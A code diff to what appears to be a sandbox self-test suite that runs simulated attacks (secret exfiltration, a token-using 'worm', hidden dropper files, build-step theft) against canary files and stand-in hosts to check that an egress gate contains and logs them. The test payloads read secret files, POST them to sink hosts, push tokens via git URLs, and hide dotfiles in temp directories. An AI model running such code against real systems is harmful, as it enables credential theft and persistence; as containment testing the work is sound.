@@ -18,6 +18,7 @@ from __future__ import annotations
 import os
 import secrets
 import shutil
+import stat
 
 from agentvm.selftest.framework import CANARY_HOST, SINK_NAME, Env, Verdict, case
 
@@ -59,8 +60,11 @@ def log_check(o) -> tuple[list[str], str]:
             attempts.append((host, path))
     missing = []
     for host, path in attempts:
+        # a request line with that path, or (a client that tunnels even http://, like undici, or
+        # a CONNECT) a pathless connect-phase line for that host
         ok = any(
-            e.get("host") == host and (path == "-" or str(e.get("path", "")).split("?")[0] == path.split("?")[0])
+            e.get("host") == host
+            and (path == "-" or not e.get("path") or str(e.get("path")).split("?")[0] == path.split("?")[0])
             for e in o.egress
         )
         if not ok:
@@ -236,9 +240,9 @@ for (const f of ["/mnt/canaries/secret.txt", process.env.CANARY_DIR + "/secret.t
   try { loot["file:" + f] = fs.readFileSync(f, "utf8").replace(/\0/g, "\n"); } catch (e) {}
 }
 let n = 0;
-async function send(host, p, body) {
-  n += 1; const url = `http://${host}:${P}${p}-${n}`;
-  console.log("ATTEMPT " + host + " " + `${p}-${n}`.split("?")[0]);
+async function send(host, p, body, q = "") {
+  n += 1; const url = `http://${host}:${P}${p}-${n}${q}`;
+  console.log("ATTEMPT " + host + " " + `${p}-${n}`);
   try { const r = await fetch(url, {method: "POST", body}); return r.status; } catch (e) { return "err:" + (e.cause ? e.cause.code : e.message); }
 }
 (async () => {
@@ -246,7 +250,7 @@ async function send(host, p, body) {
   const blob = JSON.stringify(loot);
   res.sink = await send(process.env.SINK_NAME, "/npm-bulk", blob);
   res.allowedBulk = await send("allowed.selftest", "/npm-bulk", blob);
-  for (const [k, v] of Object.entries(loot)) res[k] = await send("allowed.selftest", "/npm-item?d=" + encodeURIComponent(k + "=" + v), k + "=" + v);
+  for (const [k, v] of Object.entries(loot)) res[k] = await send("allowed.selftest", "/npm-item", k + "=" + v, "?d=" + encodeURIComponent(k + "=" + v));
   // the dropper: a payload for later, hidden as dotfiles, unreadable
   const drops = ["/tmp/.X11-unix-" + M + "/.sysd", H + "/.cache/.node-gyp-" + M + "/.x", "/dev/shm/.pulse-" + M, H + "/.npm/_cacache/.tmp-" + M];
   for (const d of drops) {
@@ -325,10 +329,10 @@ for k, t in toks.items():
         res[k + "@github"] = r.stdout or r.stderr[-80:]
     except Exception as e:
         res[k + "@github"] = type(e).__name__
-    # and a git push with the token in the URL (git strips userinfo into an Authorization header)
-    r = subprocess.run(["git", "-c", "http.lowSpeedTime=2", "push", "--dry-run",
-                        f"http://x-access-token:{t}@allowed.selftest:{P}/worm/worm.git", "HEAD"],
-                       capture_output=True, text=True, timeout=5, cwd="/tmp")
+    # and git with the token in the URL (git moves userinfo into an Authorization header)
+    print("ATTEMPT allowed.selftest /worm/worm.git/info/refs")
+    r = subprocess.run(["git", "ls-remote", f"http://x-access-token:{t}@allowed.selftest:{P}/worm/worm.git"],
+                       capture_output=True, text=True, timeout=5, cwd="/tmp", env={**os.environ, "GIT_TERMINAL_PROMPT": "0"})
     res[k + "@git"] = r.returncode
 print("RESULT", json.dumps(res)[:1500])
 """
@@ -344,11 +348,10 @@ def _(env: Env) -> Verdict:
     o = env.sandbox(code, lang="python", timeout=30)
     if "RESULT" not in o.stdout:
         return Verdict.error(f"the worm did not run: {o.out[-400:]}")
-    # git's requests are not printed as ATTEMPTs: it may not reach the gate at all; count what it did
     git = [e for e in o.egress if "/worm/worm.git" in str(e.get("path", ""))]
     # the real GitHub token is never in the sandbox (cred-in-env puts only the API key in): a real
     # token reaching the sink would come from the gate's swap, the only holder of it
-    return verdict(env, "worm", o, contained=f"git push reached the gate {len(git)} time(s), all logged")
+    return verdict(env, "worm", o, contained=f"git reached the gate {len(git)} time(s), all logged")
 
 
 # ---------------------------------------------------------------------------- 4. registry poisoning
@@ -483,7 +486,17 @@ print("SHIP", ship("build", loot, @PORT@))
 def _(env: Env) -> Verdict:
     code = (_BUILD.replace("@EXFIL@", _exfil_lib()).replace("@PORT@", str(env.sink.port))
             .replace("@CANARYDIR@", str(env.canary_dir)).replace("@HOME@", str(env.home)))
-    o = env.sandbox(code, lang="python", timeout=20)
+    # under grant-canaries the framework grants the canary dir read-write, which the runtime refuses
+    # unless the agent's uid can write it: open the directory (not secret.txt) for this run only
+    old = None
+    if "grant-canaries" in env.weakens:
+        old = stat.S_IMODE(os.stat(env.canary_dir).st_mode)
+        os.chmod(env.canary_dir, 0o1777)
+    try:
+        o = env.sandbox(code, lang="python", timeout=20)
+    finally:
+        if old is not None:
+            os.chmod(env.canary_dir, old)
     if "SHIP" not in o.stdout:
         return Verdict.error(f"the build step did not run: {o.out[-300:]}")
     loot = next(l for l in o.stdout.splitlines() if l.startswith("LOOT"))
